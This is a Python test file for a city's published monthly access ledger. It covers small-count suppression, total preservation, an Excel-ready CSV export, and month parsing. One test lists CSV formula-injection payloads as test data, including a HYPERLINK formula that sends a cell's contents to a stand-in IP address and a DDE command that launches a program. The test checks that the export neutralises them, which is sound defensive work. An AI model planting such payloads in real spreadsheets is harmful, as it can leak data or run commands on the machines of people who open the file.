"""The month of the ledger that the city publishes: nobody in it, nothing left out, nothing that runs."""

from __future__ import annotations

import csv
from datetime import date
from io import StringIO

import pytest
from hypothesis import given
from hypothesis import strategies as st

from api.ledger_file import HEADINGS, ledger_file
from core.ids import DepartmentId
from core.profile.model import CityProfile
from core.profile.purposes import ListedPurpose
from storage.ledger import SEVERAL, Counted, Month, NotAMonth, month_of
from storage.ledger_publishing import Published, publish

NOVEMBER = Month(year=2026, number=11)
HOKEN, ZEIMU = "hoken-nenkin", "zeimu"


def opened(day: int, count: int, **facts: object) -> Counted:
    plain: dict[str, object] = {
        "day": date(2026, 11, day), "department": HOKEN, "purpose": "fact-check", "act": "listen",
        "case": False, "count": count,
    }  # fmt: skip
    return Counted(**(plain | facts))  # type: ignore[arg-type]


def told(line: Published) -> tuple[object, ...]:
    day = None if line.day is None else line.day.day
    return day, line.department, line.purpose, line.act, line.count


def rows(file: bytes) -> list[list[str]]:
    return list(csv.reader(StringIO(file.decode("utf-8-sig"))))


def test_what_is_often_enough_is_told_by_day() -> None:
    assert [told(line) for line in publish([opened(5, 7), opened(6, 5)], 5)] == [
        (5, HOKEN, "fact-check", "listen", 7),
        (6, HOKEN, "fact-check", "listen", 5),
    ]


def test_what_is_rare_loses_its_day_first_then_its_purpose_then_its_kind_then_its_department() -> None:
    lines = [
        opened(5, 7), opened(6, 3), opened(9, 2),  # two days together are five
        opened(9, 3, purpose="disclosure", case=True), opened(9, 2, purpose="record-keeping"),
        opened(9, 1, act="read"), opened(9, 4, act="search"),
        opened(9, 2, department=ZEIMU), opened(9, 1, department=SEVERAL, act="search"),
    ]  # fmt: skip

    assert [told(line) for line in publish(lines, 5)] == [
        (5, HOKEN, "fact-check", "listen", 7),
        (None, HOKEN, "fact-check", "listen", 5),
        (None, HOKEN, None, "listen", 5),
        (None, HOKEN, None, None, 5),
        (None, None, None, None, 3),
    ]


@given(
    st.lists(
        st.builds(
            opened,
            st.integers(1, 30), st.integers(1, 9),
            department=st.sampled_from([HOKEN, ZEIMU, SEVERAL, None]),
            purpose=st.sampled_from(["fact-check", "disclosure"]),
            act=st.sampled_from(["listen", "read", "search"]), case=st.booleans(),
        ),
        max_size=40,
    ),
    st.integers(2, 20),
)  # fmt: skip
def test_nothing_is_left_out_and_only_the_whole_city_has_a_small_count(
    lines: list[Counted], smallest: int
) -> None:
    published = publish(lines, smallest)

    assert sum(line.count for line in published) == sum(line.count for line in lines)
    assert all(
        line.count >= smallest or (line.department, line.act, line.day) == (None, None, None)
        for line in published
    )
    assert len({(one.day, one.department, one.purpose, one.act, one.case) for one in published}) == len(
        published
    )


def test_the_file_opens_in_excel_and_holds_nothing_but_its_six_columns(sakura_profile: CityProfile) -> None:
    file = ledger_file(publish([opened(5, 7, case=True), opened(9, 1)], 5), NOVEMBER, sakura_profile)

    assert file.startswith(b"\xef\xbb\xbf")
    assert file.count(b"\r\n") == 3
    assert rows(file) == [
        list(HEADINGS),
        ["2026-11-05", "保険年金課", "申出内容の事実確認", "録音の再生", "あり", "7"],
        ["2026-11（日は示さない）", "市全体（まとめ）", "（まとめ）", "（まとめ）", "（まとめ）", "1"],
    ]


@pytest.mark.parametrize(
    "name",
    [
        '=HYPERLINK("http://192.0.2.1/?"&A1)',
        "+1+1",
        "-1+1",
        "@SUM(A1)",
        "＝1+1",
        " =1+1",
        '=cmd|"/C calc"!A0',
    ],
)
def test_a_name_that_a_spreadsheet_would_run_is_a_word_there(sakura_profile: CityProfile, name: str) -> None:
    city = sakura_profile.model_copy(
        update={
            "purposes": (ListedPurpose(id="fact-check", name=name),),
            "departments": (
                sakura_profile.department(DepartmentId(HOKEN)).model_copy(update={"name": name}),
            ),
        }
    )

    _, line = rows(ledger_file(publish([opened(5, 7)], 5), NOVEMBER, city))

    assert (line[1], line[2]) == (f"'{name}", f"'{name}")
    assert not any(cell.lstrip().startswith(("=", "+", "-", "@", "＝")) for cell in line)


def test_months_follow_one_another_over_the_year() -> None:
    december = month_of("2026-12")

    assert (str(december.following), str(month_of("2027-01").before)) == ("2027-01", "2026-12")
    assert december.until.isoformat() == "2027-01-01T00:00:00+09:00"


@pytest.mark.parametrize(
    "written", ["2026-13", "2026-1", "2026/11", "", "2026-11-01", "1026-11", "２０２６-11"]
)
def test_what_is_no_month_is_said_so(written: str) -> None:
    with pytest.raises(NotAMonth):
        month_of(written)
